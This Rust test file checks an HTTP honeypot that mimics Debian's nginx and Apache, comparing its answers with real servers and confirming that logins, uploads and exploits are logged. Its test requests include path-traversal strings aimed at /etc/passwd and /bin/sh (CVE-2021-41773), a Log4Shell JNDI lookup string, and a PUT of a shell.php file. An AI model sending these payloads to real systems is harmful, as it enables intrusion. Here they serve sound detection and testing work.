//! The http decoy over a real socket, and against a real nginx.
//!
//! The controls are Debian's nginx and Apache on 127.x addresses of their own; where one is not installed, or nginx is of another
//! version than the persona's, the comparison says so and is skipped.
#![cfg(feature = "serve")]
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "in a test a panic is the report"
)]

mod support;

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

use decnet_control::{Product, Words};
use decnet_decoys::http::request;
use decnet_persona::{Distro, Persona, PersonaSpec, ProductKind, Seed};
use support::start;

/// A persona of `distro` whose web server is `product`: the first seed that draws it.
fn persona(distro: Distro, product: &str) -> PersonaSpec {
    (0..64_u8)
        .map(|n| PersonaSpec {
            distro: Some(distro),
            ..PersonaSpec::new(Seed::from_bytes([n; 16]), "web-server")
        })
        .find(|spec| Persona::derive(spec).unwrap().product(ProductKind::Web).name == product)
        .unwrap()
}

/// Send `raw`, say that nothing more comes, and read to the end.
fn ask(address: SocketAddr, raw: &[u8]) -> Vec<u8> {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(raw).unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    let mut answer = Vec::new();
    // A reset after the last byte ends an answer as well as a close does.
    let _reset_is_an_end = stream.read_to_end(&mut answer);
    answer
}

fn text(address: SocketAddr, raw: &str) -> String {
    String::from_utf8_lossy(&ask(address, raw.as_bytes())).into_owned()
}

/// Status line, header names in order with the values that two machines share, and the body of an error.
fn shape(answer: &[u8]) -> String {
    let text = String::from_utf8_lossy(answer);
    if let Some(rest) = text.strip_prefix("HTTP/1.1 100 Continue\r\n\r\n") {
        return format!("HTTP/1.1 100 Continue\n{}", shape(rest.as_bytes()));
    }
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return format!("no head, a page: {}", text.starts_with("<!DOCTYPE html>"));
    };
    if let Some((_, boundary)) = head.split_once("boundary=") {
        // Several parts: the boundary is the process's own, the length the page's.
        let boundary = boundary.split("\r\n").next().unwrap();
        let place = if boundary.len() == 16 {
            "BOUNDARY-OF-16"
        } else {
            "BOUNDARY"
        };
        let mut body = body.replace(boundary, place);
        if let Some((_, tail)) = body.split_once("0-0/") {
            let whole: String = tail.chars().take_while(char::is_ascii_digit).collect();
            body = body.replace(&format!("/{whole}\r"), "/…\r");
        }
        let head = head.replace(&format!("boundary={boundary}"), place);
        return format!("{}\n{body}", shape(format!("{head}\r\n\r\n").as_bytes()));
    }
    let error = !head.starts_with("HTTP/1.1 20") && !head.starts_with("HTTP/1.1 304");
    let mut lines = head.split("\r\n");
    let mut out = lines.next().unwrap_or_default().to_owned();
    for line in lines {
        let (name, value) = line.split_once(": ").unwrap_or((line, ""));
        let own = match name {
            "Date" | "Last-Modified" | "ETag" | "Content-Range" => true,
            "Content-Length" => !error,
            _ => false,
        };
        out.push_str(&format!("\n{name}: {}", if own { "…" } else { value }));
    }
    if error {
        out.push_str("\n\n");
        out.push_str(body);
    }
    out
}

const TRANSCRIPT: &[&str] = &[
    "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.0\r\n\r\n",
    "GET /\r\n",
    "GET / HTTP/1337\r\nHost: a\r\n\r\n",
    "GET / HTTP/2.0\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.9\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\n\r\n",
    "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n",
    "OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n",
    "TRACE / HTTP/1.1\r\nHost: a\r\n\r\n",
    "FOO / HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    "PUT /x HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    "DELETE / HTTP/1.1\r\nHost: a\r\n\r\n",
    "CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /nope HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%2e%2e%2f%2e%2e%2fetc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /a/../ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%00 HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%zz HTTP/1.1\r\nHost: a\r\n\r\n",
    "garbage\r\n\r\n",
    "\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-9\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nIf-None-Match: *\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nIf-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: foo\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a/b\r\n\r\n",
    "GET http://b/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nbad header\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    "GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    "\u{16}\u{3}\u{1}",
    "get / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET  / HTTP/1.1 \r\nHost: a\r\n\r\n",
    "GET x HTTP/1.1\r\nHost: a\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /wp-content HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /wp-content/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\r\nHEAD / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n",
    "HEAD / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: deflate, gzip;q=0.5\r\n\r\n",
    "GET / HTTP/1.0\r\nAccept-Encoding: gzip\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip;q=0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: *\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\nVia: 1.1 b\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\nRange: bytes=0-9\r\n\r\n",
    "GET /robots.txt HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=99999-\r\n\r\n",
    "POST /nope HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\nabc",
    "GET / HTTP/1.1\r\nHost: a\r\nExpect: no<pe\r\n\r\n",
    "GET / HTTP/1.0\r\nExpect: nope\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nExpect: nope\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
    // A body that never comes: who is refused learns it without sending it.
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 2000000\r\nExpect: 100-continue\r\n\r\n",
];

/// Several parts of a page. Apache says `Vary` with them, too, and gives the whole where one of them lies outside: ours does not.
const IN_PARTS: &[&str] = &[
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-0,2-2\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-0, 99999-\r\n\r\n",
];

/// What Debian's configuration of Apache answers by itself.
const OF_APACHE: &[&str] = &[
    "GET /.htaccess HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST /.htpasswd HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    "DELETE /.htaccess/x HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /nope/.htaccess HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /icons/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /icons HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /icons/small/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /server-status HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /server-status?auto HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /server-statuses HTTP/1.1\r\nHost: a\r\n\r\n",
];

#[test]
fn a_page_is_the_same_file_by_both_of_its_names() {
    for product in ["Apache", "nginx"] {
        let site = start("http", persona(Distro::Debian12, product), &[("site", "company")]);
        let tags = |path: &str| -> Vec<String> {
            let answer = text(site.address, &format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n"));
            let own = |line: &&str| line.starts_with("ETag") || line.starts_with("Last-Modified");
            answer.lines().filter(own).map(str::to_owned).collect()
        };
        assert_eq!(tags("/").len(), 2);
        assert_eq!(tags("/"), tags("/index.html"), "{product}");
    }
}

#[test]
fn an_exploit_is_told_by_its_request_line_alone() {
    let site = start("http", persona(Distro::Debian12, "Apache"), &[]);
    let line = "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1";
    text(site.address, &format!("{line}\r\nHost: a\r\nX: y\r\n\r\n"));
    let told = site.lines.wait(&["exploit_attempt", "CVE-2021-41773"]);
    assert!(
        told.contains("/bin/sh") && !told.contains("Host") && !told.contains("\\x0"),
        "{told}"
    );
}

/// An answer of Apache without what differs between its releases of one series and between two processes of one release: the
/// patch level, the page's document type (changed after 2.4.62) and so its length, the order of methods, the port, and what a
/// 304 repeats (changed after 2.4.62).
fn apache_shape(answer: &[u8], port: u16) -> String {
    let mut out = String::new();
    let unchanged = answer.starts_with(b"HTTP/1.1 304");
    for line in shape(answer).lines() {
        let (name, value) = line.split_once(": ").unwrap_or((line, ""));
        let line = match name {
            "Last-Modified" | "Accept-Ranges" if unchanged => continue,
            // A file that is as new as the request has a weak tag and no other difference.
            "Content-Length" => "Content-Length: …".to_owned(),
            "Allow" => {
                let mut methods: Vec<&str> = value.split(',').collect();
                methods.sort_unstable();
                format!("Allow: {}", methods.join(","))
            }
            _ if line.starts_with("<!DOCTYPE") => "<!DOCTYPE …>".to_owned(),
            // The length of a chunk.
            _ if line.len() == 3 && u16::from_str_radix(line, 16).is_ok() => "…".to_owned(),
            _ => line.replace(&format!("Port {port}"), "Port …"),
        };
        let line = match line.split_once("Apache/2.4.") {
            Some((before, after)) => {
                let after = after.trim_start_matches(|c: char| c.is_ascii_digit());
                format!("{before}Apache/2.4.…{after}")
            }
            None => line,
        };
        out.push_str(&line.replace(&format!(":{port}/"), ":…/"));
        out.push('\n');
    }
    out
}

#[test]
fn the_same_transcript_looks_as_apache_answers_it() {
    let spec = persona(Distro::Debian12, "Apache");
    let fqdn = Persona::derive(&spec).unwrap().fqdn();
    let words = Words {
        host: &fqdn,
        ..Words::default()
    };
    let Some(apache) = support::control(Product::Apache, "2.4.", words) else {
        return;
    };
    let control = apache.address();
    let site = start("http", spec, &[("site", "company")]);
    let mut different = String::new();
    let long = format!(
        "GET / HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n",
        "a".repeat(8300)
    );
    for raw in TRANSCRIPT.iter().chain(OF_APACHE).copied().chain([long.as_str()]) {
        let (real, ours) = (
            apache_shape(&ask(control, raw.as_bytes()), control.port()),
            apache_shape(&ask(site.address, raw.as_bytes()), site.address.port()),
        );
        if real != ours {
            let raw = raw.get(..200).unwrap_or(raw);
            different.push_str(&format!("=== {raw:?}\n--- apache\n{real}\n--- ours\n{ours}\n"));
        }
    }
    assert!(different.is_empty(), "{different}");
}

#[test]
fn a_transcript_of_forty_requests_looks_as_nginx_answers_it() {
    let Some(nginx) = support::control(Product::Nginx, "1.22.1", Words::default()) else {
        return;
    };
    let control = nginx.address();
    let site = start("http", persona(Distro::Debian12, "nginx"), &[("site", "company")]);
    let mut different = String::new();
    for raw in TRANSCRIPT.iter().chain(IN_PARTS) {
        let seen = |at: SocketAddr| {
            let shown = shape(&ask(at, raw.as_bytes()));
            shown.replace(&format!(":{}/", at.port()), ":…/")
        };
        let (real, ours) = (seen(control), seen(site.address));
        if real != ours {
            different.push_str(&format!("=== {raw:?}\n--- nginx\n{real}\n--- ours\n{ours}\n"));
        }
    }
    assert!(different.is_empty(), "{different}");
}

#[test]
fn apache_answers_in_its_own_order_with_its_signature() {
    let site = start(
        "http",
        persona(Distro::Debian12, "Apache"),
        &[("site", "default")],
    );
    let page = text(
        site.address,
        "GET / HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n",
    );
    let names: Vec<&str> = page
        .split("\r\n\r\n")
        .next()
        .unwrap()
        .lines()
        .skip(1)
        .filter_map(|line| line.split(": ").next())
        .collect();
    assert_eq!(
        names,
        [
            "Date",
            "Server",
            "Last-Modified",
            "ETag",
            "Accept-Ranges",
            "Content-Length",
            "Vary",
            "Keep-Alive",
            "Connection",
            "Content-Type"
        ]
    );
    assert!(page.contains("Apache2 Debian Default Page") && page.contains("Server: Apache/2.4."));
    let missing = text(site.address, "GET /<x> HTTP/1.1\r\nHost: www.example.org\r\n\r\n");
    assert!(
        missing
            .contains("<p>The requested URL was not found on this server.</p>\n<hr>\n<address>Apache/2.4.")
    );
    let signature = format!("Server at www.example.org Port {}</address>", site.address.port());
    assert!(missing.contains(&signature), "{missing}");
    for (raw, status) in [
        ("GET / HTTP/1337\r\nHost: a\r\n\r\n", "HTTP/1.1 400 Bad Request"),
        (
            "FOO / HTTP/1.1\r\nHost: a\r\n\r\n",
            "HTTP/1.1 501 Not Implemented",
        ),
        (
            "PUT /x HTTP/1.1\r\nHost: a\r\n\r\n",
            "HTTP/1.1 405 Method Not Allowed",
        ),
        ("OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 200 OK"),
        ("GET /%2f HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 404 Not Found"),
        ("POST / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 200 OK"),
    ] {
        let answer = text(site.address, raw);
        assert!(answer.starts_with(status), "{raw:?}: {answer}");
    }
}

#[test]
fn logins_uploads_and_exploits_are_reported() {
    let site = start(
        "http",
        persona(Distro::Debian12, "nginx"),
        &[("site", "wordpress"), ("accept", "after_2")],
    );
    let login = |password: &str| {
        let form = format!("log=admin&pwd={password}");
        let length = form.len();
        text(
            site.address,
            &format!(
                "POST /wp-login.php HTTP/1.1\r\nHost: a\r\nUser-Agent: probe/1.0\r\nContent-Type: \
                 application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n{form}"
            ),
        )
    };
    assert!(login("first").contains("is not right"));
    let inside = login("second");
    assert!(inside.starts_with("HTTP/1.1 302"), "{inside}");
    let cookie = inside
        .lines()
        .find_map(|line| line.strip_prefix("Set-Cookie: wordpress_logged_in_"))
        .and_then(|line| line.split(';').next())
        .unwrap();
    let admin = format!("GET /wp-admin/ HTTP/1.1\r\nHost: a\r\nCookie: wordpress_logged_in_{cookie}\r\n\r\n");
    assert!(text(site.address, &admin).contains("Signed in as admin"));
    site.lines.wait(&[
        "auth_attempt",
        "principal=\"admin\"",
        "secret_printable=\"first\"",
        "refused",
    ]);
    site.lines
        .wait(&["auth_attempt", "secret_printable=\"second\"", "accepted"]);
    site.lines.wait(&["client_info", "probe/1.0"]);
    site.lines
        .wait(&["request", "path=\"/wp-login.php\"", "status=\"302\""]);

    text(
        site.address,
        "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: a\r\n\r\n",
    );
    site.lines.wait(&["exploit_attempt", "CVE-2021-44228"]);
    text(
        site.address,
        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: a\r\n\r\n",
    );
    site.lines.wait(&["exploit_attempt", "CVE-2021-41773"]);

    text(
        site.address,
        "PUT /../x.php HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    );
    text(
        site.address,
        "PUT /shell.php HTTP/1.1\r\nHost: a\r\nContent-Length: 14\r\n\r\n<?php evil();>",
    );
    site.lines.wait(&["file_captured", "via=\"put\"", "shell.php"]);
    assert_eq!(site.kept().len(), 2, "the file and its description");
}

#[test]
fn tomcat_asks_for_an_account_and_takes_basic() {
    let site = start(
        "http",
        persona(Distro::Debian12, "Apache"),
        &[("site", "tomcat"), ("accept", "always")],
    );
    let refused = text(site.address, "GET /manager/html HTTP/1.1\r\nHost: a\r\n\r\n");
    assert!(
        refused.starts_with("HTTP/1.1 401") && refused.contains("Basic realm=\"Tomcat Manager Application\"")
    );
    let inside = text(
        site.address,
        "GET /manager/html HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\n\r\n",
    );
    assert!(inside.starts_with("HTTP/1.1 200"));
    site.lines.wait(&[
        "principal=\"tomcat\"",
        "secret_printable=\"s3cret\"",
        "mechanism=\"Basic\"",
    ]);
}

#[test]
fn the_seeds_of_the_fuzzer_are_read_without_a_panic() {
    let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/corpus/http_request");
    let mut seeds = 0;
    for entry in std::fs::read_dir(corpus).unwrap() {
        let raw = std::fs::read(entry.unwrap().path()).unwrap();
        seeds += 1;
        for strictness in [
            request::Strictness::Apache,
            request::Strictness::Nginx { strict: true },
            request::Strictness::Nginx { strict: false },
        ] {
            if let request::Progress::Whole(n) = request::head_end(&raw, strictness)
                && let Ok(parsed) = request::parse(&raw[..n], strictness)
            {
                assert!(parsed.path == b"*" || parsed.path.starts_with(b"/"));
            }
        }
    }
    assert!(seeds >= 10);
}
